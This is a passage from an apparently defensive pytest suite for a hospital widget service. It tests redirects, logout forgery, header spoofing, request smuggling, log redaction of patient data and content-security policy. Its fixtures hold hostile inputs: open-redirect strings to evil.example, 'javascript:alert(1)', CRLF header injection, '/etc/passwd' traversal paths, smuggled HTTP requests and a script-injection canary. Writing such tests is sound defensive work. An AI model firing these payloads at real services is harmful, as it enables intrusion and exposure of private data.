    assert (400, False) == (answer.status_code, "pw-session" in staff.client.cookies)


async def test_a_frame_whose_cookies_are_blocked_ends_at_the_sign_in_card(staff: Staff) -> None:
    """A silent attempt that comes back without its cookie shows the card, not an error page, and runs no circles."""
    staff.client.cookies.jar.set_policy(DefaultCookiePolicy(allowed_domains=[]))
    answer = await staff.get("/widgets/todos")
    assert (200, "signed-out") == (answer.status_code, answer.headers["Widget-State"])


ELSEWHERE = (
    *("https://evil.example", "//evil.example", "/\\evil.example", "\\\\evil.example", "///evil.example"),
    *(
        "/%2fevil.example",
        "/%5cevil.example",
        "/%2F%2Fevil.example",
        "https:evil.example",
        "javascript:alert(1)",
    ),
    *("/\tevil.example", "/\n/evil.example", "\t//evil.example", " //evil.example", "/ /evil.example/..//x"),
    *("/./evil.example", "/.//evil.example", "/..//evil.example", "/%2e%2e//evil.example", "@evil.example"),
    *(
        ".evil.example",
        ":80@evil.example/",
        "evil.example",
        "/auth/login",
        "/auth/../auth/login",
        "/AUTH/logout",
    ),
    *(
        "/x\r\nSet-Cookie: a=b",
        "/x%0d%0aSet-Cookie:a=b",
        "/\u2028/evil.example",
        "/\ud800",
        "/" + "a" * 3000,
        "?x",
        "",
    ),
    *(
        "/。evil.example",
        "／／evil.example",
        "/；//evil.example",
        "/widgets/todos@evil.example",
        "/open/x?return=//evil.example",
    ),
)


@pytest.mark.parametrize("silent", ["", "&silent=1"])
async def test_no_return_address_leads_away_from_us(annex: Annex, silent: str) -> None:
    """Every form of an open redirect ends below our own address, on one line; Redis is away, so it is used at once."""
    annex.line.turn("cut")
    for wanted in ELSEWHERE:
        query = quote(wanted.encode("utf-8", "surrogatepass"), safe="")
        answer = await ask(annex.address, f"/auth/login?return={query}{silent}", **HTML)
        if silent:
            parts = urlsplit(answer.headers["Location"])
            assert (303, annex.world.at.widgets) == (answer.status_code, f"{parts.scheme}://{parts.netloc}")
            assert answer.headers["Location"].isascii() and not parts.path.startswith(("//", "/\\"))
        assert "evil" not in answer.text and answer.status_code in (303, 503)


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "https://evil.example"},
        {"Origin": "null"},
        {"Origin": "{own}.evil.example"},
        {"Origin": "{own}0"},
        {"Origin": "{oa}"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "none"},
        {"Referer": "{own}/"},
        {"Content-Type": "text/plain"},
    ],
)
async def test_nobody_else_signs_anybody_out(
    annex: Annex, cookies: dict[Person, str], headers: dict[str, str]
) -> None:
    """A form of another site, of nobody, or of one that only looks like us: refused, and the session stays."""
    own = {"own": annex.world.at.widgets, "oa": annex.world.at.oa}
    said = {name: value.format(**own) for name, value in headers.items()}
    async with httpx2.AsyncClient(base_url=annex.address, trust_env=False, verify=PLAIN) as client:
        answer = await client.post("/auth/logout", headers={"Cookie": cookies[ZHOU], **said})
    shown = await ask(annex.address, "/widgets/todos", cookies[ZHOU])
    assert (403, False, "ok") == (answer.status_code, "Set-Cookie" in answer.headers, shown.json()["state"])


# What may stand in a request

HOSTS = (b"a..b", b"a" * 5000, b"evil.example", b"a@b/ x", b"[::1", b"\xff", b"x:99999999", b"")
PATHS = (
    *(
        b"//widgets//todos",
        b"/widgets//todos",
        b"/widgets/todos/",
        b"/widgets/todos;.js",
        b"/widgets/todos/x.css",
    ),
    *(
        b"/widgets/todos%00",
        b"/widgets/%ff",
        b"/open/%ff",
        b"/open/%00",
        b"/open//x",
        b"/open/..%2f..",
        b"/open/a%0d%0ab",
    ),
    *(
        b"/static//etc/passwd",
        b"/static/%2e%2e/%2e%2e/etc/passwd",
        b"/static/../app.py",
        b"*",
        b"/" + b"a" * 9000,
    ),
    *(
        b"//evil.example/%2e%2e",
        b"http://evil.example/open/x",
        b"/auth//login?return=//evil.example",
        b"/WIDGETS/TODOS",
    ),
    *(
        b"/widgets/todos?silent=0&" + b"&".join(b"k%d=1" % n for n in range(1500)),
        b"/widgets/todos?silent&" + b"x" * 8000,
    ),
    b"/widgets/todos?silent&campus=%ed%a0%80&limit=%D9%A1&limit=9&heading=-1&lang=%00&size[]=x&v=%ff&theme=../../x",
)


@pytest.mark.parametrize("host", HOSTS)
async def test_what_a_caller_calls_us_means_nothing(annex: Annex, host: bytes) -> None:
    """No Host brings a fault, and none is ever repeated, however the address is written."""
    forwarded = (
        b"X-Forwarded-Host: evil.example\r\nForwarded: host=evil.example\r\nX-Original-URL: /healthz\r\n"
    )
    for path in (b"/widgets/todos", b"/widgets//todos", b"/open/x", b"/auth/logout"):
        lines = b"GET " + path + b" HTTP/1.1\r\nHost: " + host + b"\r\nAccept: text/html\r\n" + forwarded
        heard = await raw(annex.address, lines + b"Connection: close\r\n\r\n")
        assert heard.startswith((b"HTTP/1.1 200", b"HTTP/1.1 303", b"HTTP/1.1 404")) and b"evil" not in heard


@pytest.mark.parametrize("path", PATHS)
async def test_no_address_brings_a_fault_or_leads_away(annex: Annex, path: bytes) -> None:
    """Answered below 500, kept by nobody, without a trace, and sent nowhere but to ourselves."""
    heard = await raw(
        annex.address,
        b"GET " + path + b" HTTP/1.1\r\nHost: x\r\nAccept: text/html\r\nConnection: close\r\n\r\n",
    )
    head = heard.partition(b"\r\n\r\n")[0].decode("latin1")
    assert re.match(r"HTTP/1.1 (200|303|400|404|414|431) ", head), head
    assert b"Traceback" not in heard and b"no-store" in heard
    assert re.findall(r"(?i)^location: (.*)$", head, re.M) == [
        place
        for place in re.findall(r"(?i)^location: (.*)$", head, re.M)
        if place.startswith(annex.world.at.widgets)
    ]


SMUGGLED = {
    "two lengths": b"POST /auth/logout HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "odd coding": b"POST /auth/logout HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "two hosts": b"GET /healthz HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n",
    "websocket": b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n",
    "h2c": b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
    b"HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
}


@pytest.mark.parametrize("name", SMUGGLED)
async def test_what_a_gateway_may_read_otherwise_reaches_no_view(annex: Annex, name: str) -> None:
    """Two lengths, two hosts, a change of protocol: no answer of a view, and no second answer."""
    heard = await raw(annex.address, SMUGGLED[name])
    assert b"ok\n" not in heard and len(re.findall(rb"HTTP/1\.1 [2-5]\d\d", heard)) <= 1
    assert b" 500 " not in heard


@pytest.mark.parametrize(
    ("told", "status"),
    [
        (["127.0.0.1", "8.8.8.8"], 403),
        (["127.0.0.1, 8.8.8.8"], 403),
        (["127.0.0.1, ::ffff:8.8.8.8, ::ffff:127.0.0.1"], 403),
        (["::ffff:127.0.0.1"], 200),
        (["127.0.0.1:40001"], 200),
        (["[::1]:40002"], 200),
        (["127.0.0.1, 8.8.8.8:40003, 127.0.0.1:40004"], 403),
        (["8.8.8.8, 127.0.0.1", "8.8.8.8"], 403),
        (["::1", "unknown"], 403),
        (["8.8.8.8", "127.0.0.1, 10.1.2.3"], 403),
        ([], 200),
    ],
)
async def test_a_caller_cannot_claim_the_operations_network_through_a_proxy(
    annex: Annex, told: list[str], status: int
) -> None:
    """The nearest address that is not a proxy's counts, in whichever of several lines a proxy wrote it."""
    lines = "".join(f"X-Forwarded-For: {each}\r\n" for each in told)
    heard = await raw(
        annex.address, f"GET /healthz HTTP/1.1\r\nHost: x\r\n{lines}Connection: close\r\n\r\n".encode()
    )
    assert heard.startswith(f"HTTP/1.1 {status} ".encode())


async def test_a_refused_method_is_told_which_are_allowed(annex: Annex) -> None:
    """RFC 9110 §15.5.6."""
    heard = await raw(annex.address, b"TRACE /widgets/todos HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    assert [b"GET, HEAD, OPTIONS"] == re.findall(rb"(?i)\r\nallow: ([^\r]*)", heard)


async def test_what_a_caller_writes_into_headers_is_never_repeated(
    annex: Annex, cookies: dict[Person, str]
) -> None:
    """HX-*, forwarded and identity headers change neither the list nor one letter of the card."""
    mark = "zqx9canary"
    names = (
        "HX-Current-URL",
        "HX-Target",
        "HX-Trigger",
        "HX-Prompt",
        "X-User",
        "X-Remote-User",
        "Referer",
        "X-Request-Id",
    )
    forged = dict.fromkeys(names, f'"><script>{mark}</script>')
    plain = await ask(
        annex.address, "/widgets/todos", cookies[ZHOU], **{"HX-Request": "true", "Accept": "*/*"}
    )
    answer = await ask(
        annex.address, "/widgets/todos", cookies[ZHOU], **{"HX-Request": "true", "Accept": "*/*"}, **forged
    )
    assert plain.text == answer.text and mark not in str(answer.headers)


# What gets out


async def test_no_secret_and_no_title_is_logged_or_sent(annex: Annex, hospital: World) -> None:
    """Signing in, looking, opening and failing: no token, key, cookie or title is logged, no key or token is sent."""
    with capture_logs() as lines:
        async with Staff.at(hospital) as staff:
            page = await staff.sign_in(SHEN)
            cookie = staff.client.cookies["pw-session"]
            answers = [*page.history, page]
        moods: tuple[Mode, ...] = ("ok", "garbage", "down")
        for mode in moods:
            hospital.oa.mode = mode
            annex.later()
            answers.append(await ask(annex.address, "/widgets/todos", f"pw-session={cookie}"))
        answers.append(await ask(annex.address, "/open/x", f"pw-session={cookie}"))
        codes = re.findall(r"code=([^&]+)", " ".join(str(answer.url) for answer in answers))
    kept = [(hospital.folder / name).read_text().split()[-1] for name in ("keys", "oidc-secret")]
    oa = [
        *hospital.oa.gate._tokens,
        str(hospital.oa.gate._secret),
        json.loads((hospital.folder / "oa.json").read_text())["spk"],
    ]
    logged = "\n".join(str(line) for line in lines)
    assert codes and [] == [each for each in (*codes, *kept, *oa, cookie) if each in logged]
    assert [] == [task.title for task in hospital.oa.waiting(SHEN) if task.title in logged]
    sent = "\n".join(
        f"{answer.headers} {answer.text}"
        for answer in answers
        if "/auth/" in str(answer.url) or answer.status_code == 200
    )
    assert [] == [each for each in (*kept, *oa) if each in sent]


@pytest.mark.parametrize(
    ("body", "told"),
    [
        (
            '[{"requestId": "4711", "requestName": "关于患者王某的会诊", "creator": "10086',
            '"requestName": "…"',
        ),
        ("<html><title>请登录</title><p>王某 <b data-name='x' title=\"王某\">", "<title>请登录</title><p>…"),
        ("<rows><row><name>王某</name><no>10086", "<rows><row><name>…"),
        ('{"msg": "签名错误", "rows": [["王某"], {"10086": "王某"', '"msg": "签名错误", "rows": [["…"]'),
        ("TICKET=a8f5f167f44f4964e6c998dee827110c 10086", "…"),
        (
            '{"status": false, "code": 1001, "msg": "用户 王某 无权限，流程【患者王某的会诊】，a8f5f167"}',
            "1001: 用户 … 无权限，流程【…的…】，…",
        ),
        (
            '{"errcode": "a8f5f167-王某-10086", "errmsg": "查无此人：4711 at java.lang.IllegalStateException", x',
            '"errcode": "…-…-…", "errmsg": "查无此人：… at java.lang.IllegalStateException"',
        ),
        ('{"errcode": 40029, "rows": [10086, "王某"', '"errcode": 40029, "rows": […'),
        ("<html><title>王某的登录页</title>", "<title>…的登录页"),
        ('{"workcode": 10086, "rows": [', '{"workcode": …, "rows": ['),
        ('{"workcode":13800138000,', '{"workcode":…,'),
        ('{"code": 0, "data": [{"code": 10086, "x"', '{"code": 0, "data": [{"code": …,'),
        ('{"errorCode": 13800138000, "x": 王某', '{"errorCode": …, "x": …'),
        ("用户王某不存在", "用户…不存在"),
        ("错误：王某 13800138000 无权限", "错误：… … 无权限"),
        ("{'msg': '用户王某', 'title': '王某的申请'", "{'msg': '用户…', '…': '…'"),
        ("<error msg='王某 的住院号 无效'/>", "<error msg='…'/>"),
        ("x=王某&workcode=10086&y=1", "x=…&workcode=…&y=1"),
        ('{"title": "王某\\', '{"title": "…'),
        ('{"status": false, "code": 1, "msg": "用户 138 001 380 00 无效"}', "1: 用户 … 无效"),
        ('{"status": false, "code": 1, "msg": "用户 138-0013-8000 无效, HTTP 401"}', "用户 … 无效, HTTP 401"),
        (
            '{"status": false, "code": 1, "msg": "cn.wangmou.WangMou, cn.wangmou.oa.LoginFault, java.util.List"}',
            "….….…, ….….….LoginFault, java.util.List",
        ),
    ],
)
async def test_an_answer_that_makes_no_sense_is_logged_without_what_it_says_of_people(
    annex: Annex, cookies: dict[Person, str], body: str, told: str
) -> None:
    """Cut short, a page, XML, a token, its own sentence: what it is made of helps, whose title it is nobody."""
    annex.world.oa.canned[LIST] = Canned(body.encode())
    with capture_logs() as lines:
        await ask(annex.address, "/widgets/todos", cookies[ZHOU])
        await annex.settled()
    errors = [line["error"] for line in lines if line["event"] == "oa.failed" and line["kind"] == "todos"]
    assert [True] == [told in each for each in errors]
    private = ("王某", "WangMou", "wangmou", "10086", "138", "8000", "4711", "a8f5f167")
    assert [] == [word for word in private if word in errors[0]]


SPEAKER = """
import json, pathlib, sys, structlog
from widgets.app import create_app
create_app(pathlib.Path(sys.argv[1]))
structlog.get_logger().warning("oa.failed", error=json.loads(sys.argv[2]))
"""


async def test_a_log_line_is_one_line_for_every_reader(annex: Annex) -> None:
    """Line ends that JSON lets stand, terminal controls and turned writing are escaped; Chinese stays."""
    hostile = '该账号\u2028{"level": "info"}\x85\x9b31m\x1b[0m\u202e\ud800\r\n\x00'
    words = [sys.executable, "-c", SPEAKER, str(annex.world.config), json.dumps(hostile)]
    service = await asyncio.create_subprocess_exec(*words, stderr=asyncio.subprocess.PIPE)
    line = (await service.communicate())[1].decode().removesuffix("\n")
    assert (1, True, True) == (len(line.splitlines()), line.isprintable(), "该账号" in line)
    assert hostile == json.loads(line)["error"]


@pytest.mark.parametrize(
    "path", ["/widgets/todos?silent=0", "/auth/done", "/auth/logout", "/auth/callback?code=x", "/nothing"]
)
async def test_no_page_needs_more_than_its_policy_allows(annex: Annex, path: str) -> None:
    """Every page, errors included: nothing inline but the hashed style, nothing from elsewhere, no unsafe word."""
    answer = await ask(annex.address, path, **HTML)
    policy = answer.headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy and "unsafe" not in policy and "*" not in policy
    assert [] == re.findall(r"<script(?![^>]*\bsrc=)|\son\w+=|\sstyle=|javascript:", answer.text)
    loaded = re.findall(r'<(?:script|img|link|iframe)[^>]*(?:src|href)="([^"]*)"', answer.text)
    assert [] == [each for each in loaded if not each.startswith(f"{annex.world.at.widgets}/static/")]


async def test_a_theme_cannot_be_named_out_of_its_folder(annex: Annex) -> None:
    """The service does not start, and says so in a sentence."""
    for name in (
        "../hospital",
        "/etc",
        "a/../b",
        "hospital\\n",
        ".",
        "ä",
        "a" * 41,
        "C:x",
        "hospital\\u0000",
    ):
        with pytest.raises(SettingsError) as refused:
            async with instance(annex, {'theme = "hospital"': f'theme = "{name}"'}):
                pass
        assert "service.theme" in str(refused.value)
